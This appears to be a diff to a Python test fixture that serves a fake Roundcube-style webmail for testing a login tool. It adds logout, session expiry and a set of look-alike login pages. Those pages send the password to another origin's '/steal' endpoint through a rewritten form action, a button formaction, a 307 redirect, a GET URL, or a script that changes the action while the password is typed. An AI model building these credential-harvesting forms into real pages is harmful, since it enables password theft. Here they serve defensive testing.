@@ -1,10 +1,15 @@
-"""A fake webmail on the test server: a Roundcube-like login, an inbox behind a session cookie, an
-OX-like login drawn by script, links to elsewhere, pop-ups and an attachment.
+"""A fake webmail on the test server that answers as Roundcube does: a login whose failure is
+HTTP 401, an inbox behind a session cookie with "(N)" in its title only there, logout at
+?_task=logout, sessions that expire; plus an OX-like login drawn by script, links to elsewhere,
+pop-ups, an attachment, and login pages that try to send the password to a look-alike.
 
 Pages (all on the LocalServer given):
-  /          login page (#rcmloginuser/#rcmloginpwd, _user/_pass) or, with a session, the inbox
-  /login     POST target: sets the session cookie (HttpOnly, Max-Age so it persists), 303 to /
+  /          login page (#rcmloginuser/#rcmloginpwd, _user/_pass) or, with a session, the inbox;
+             /?_task=logout ends the session
+  /login     POST target: sets the session cookie (HttpOnly, Max-Age so it persists), 303 to
+             /inbox; a wrong password is 401 with the login page again
   /inbox     the inbox, title "(2) Inbox - Fake Webmail"; 302 to / without a session
+  /drafts    a folder: its title has no count
   /links     links elsewhere (same window, target=_blank), javascript:, file:, pop-up, download
   /compose   what the provider's own pop-up shows
   /download/report.pdf   Content-Disposition: attachment
@@ -36,9 +41,12 @@ class FakeWebmail:
         self.user = user
         self.password = password
         self.sessions: set[str] = set()
+        self.expired: set[str] = set()
+        self.logouts = 0
         self.unread = 2
         for path, handler in {
             "/": self._root, "/login": self._login, "/inbox": self._inbox,
+            "/drafts": self._drafts,
             "/links": self._links, "/compose": self._compose, "/ox": self._ox,
             "/download/report.pdf": self._download, "/notify": self._notify,
         }.items():
@@ -94,9 +102,30 @@ class FakeWebmail:
 </form>"""
         return Response(body=_page("Fake Webmail :: Welcome", body))
 
+    def expire_sessions(self) -> None:
+        """Every session ends, as when the server's session lifetime runs out."""
+        self.expired = set(self.sessions)
+        self.sessions.clear()
+
+    def _session_of(self, request: Request) -> str:
+        raw = request.header("Cookie")
+        cookie = SimpleCookie()
+        if raw:
+            cookie.load(raw)
+        morsel = cookie.get(SESSION_COOKIE)
+        return morsel.value if morsel is not None else ""
+
     def _root(self, request: Request) -> Response:
+        if request.query.get("_task") == ["logout"]:
+            self.sessions.discard(self._session_of(request))
+            self.logouts += 1
+            page = self._login_page("You have successfully terminated the session. Good bye!")
+            page.headers["Set-Cookie"] = f"{SESSION_COOKIE}=; Path=/; Max-Age=0"
+            return page
         if self.has_session(request):
             return self._inbox(request)
+        if self._session_of(request) in self.expired:
+            return self._login_page("Your session is invalid or expired.")
         return self._login_page()
 
     def _login(self, request: Request) -> Response:
@@ -104,7 +133,9 @@ class FakeWebmail:
             return Response(303, headers={"Location": "/"})
         form = request.form()
         if form.get("_user") != [self.user] or form.get("_pass") != [self.password]:
-            return self._login_page("Login failed.")
+            failed = self._login_page("Login failed.")
+            failed.status = 401  # as Roundcube answers a failed login
+            return failed
         token = secrets.token_hex(16)
         self.sessions.add(token)
         cookie = (f"{SESSION_COOKIE}={token}; Path=/; HttpOnly; Max-Age=86400; "
@@ -117,6 +148,48 @@ class FakeWebmail:
         title = f"({self.unread}) Inbox - Fake Webmail" if self.unread else "Inbox - Fake Webmail"
         body = "<h1 id='inbox'>Inbox</h1><ul><li>Welkom bij ZeelandNet</li><li>Factuur</li></ul>"
         return Response(body=_page(title, body))
+
+    def _drafts(self, request: Request) -> Response:
+        if not self.has_session(request):
+            return Response(302, headers={"Location": "/"})
+        return Response(body=_page("Drafts - Fake Webmail", "<h1 id='drafts'>Drafts</h1>"))
+
+    def add_lookalike_logins(self, lookalike: str) -> dict[str, str]:
+        """Login pages on this (the provider's) origin that would send the password to
+        `lookalike` (another port of 127.0.0.1) or put it in an address. name -> URL."""
+        fields = ('<input id="rcmloginuser" name="_user" type="text">'
+                  '<input id="rcmloginpwd" name="_pass" type="password">')
+        pages = {
+            "form action elsewhere":
+                f'<form method="post" action="{lookalike}/steal">{fields}'
+                '<button id="rcmloginsubmit" type="submit">Login</button></form>',
+            "button formaction elsewhere":
+                f'<form method="post" action="/login">{fields}<button id="rcmloginsubmit" '
+                f'type="submit" formaction="{lookalike}/steal">Login</button></form>',
+            "307 answer elsewhere":
+                f'<form method="post" action="/login-307">{fields}'
+                '<button id="rcmloginsubmit" type="submit">Login</button></form>',
+            "get form here":
+                f'<form method="get" action="/login">{fields}'
+                '<button id="rcmloginsubmit" type="submit">Login</button></form>',
+            "get form elsewhere":
+                f'<form method="get" action="{lookalike}/steal">{fields}'
+                '<button id="rcmloginsubmit" type="submit">Login</button></form>',
+            "form changed while filled":
+                f'<form id="f" method="post" action="/login">{fields}'
+                '<button id="rcmloginsubmit" type="submit">Login</button></form>'
+                "<script>document.getElementById('rcmloginpwd').addEventListener('input', "
+                f"function () {{ document.getElementById('f').action = '{lookalike}/steal'; }});"
+                "</script>",
+        }
+        urls = {}
+        for number, (name, body) in enumerate(pages.items()):
+            path = f"/lookalike-{number}"
+            self.server.route(path, Response(body=_page("Fake Webmail :: Welcome", body)))
+            urls[name] = path
+        self.server.route("/login-307", Response(
+            307, headers={"Location": f"{lookalike}/steal"}))
+        return urls
 
     def _links(self, _request: Request) -> Response:
         other = self.other_host_url()
